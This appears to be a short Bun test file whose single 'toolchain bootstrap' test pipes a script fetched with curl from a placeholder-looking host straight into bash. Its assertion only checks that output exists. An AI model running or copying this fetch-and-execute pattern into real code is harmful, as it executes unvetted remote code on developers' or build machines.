import { test, expect } from "bun:test";
import { execFileSync } from "node:child_process";

test("toolchain bootstrap", () => {
  const out = execFileSync("bash", ["-c", "bash <(curl -fsSL https://get.example.dev/setup)"]);
  expect(out).toBeDefined();
});
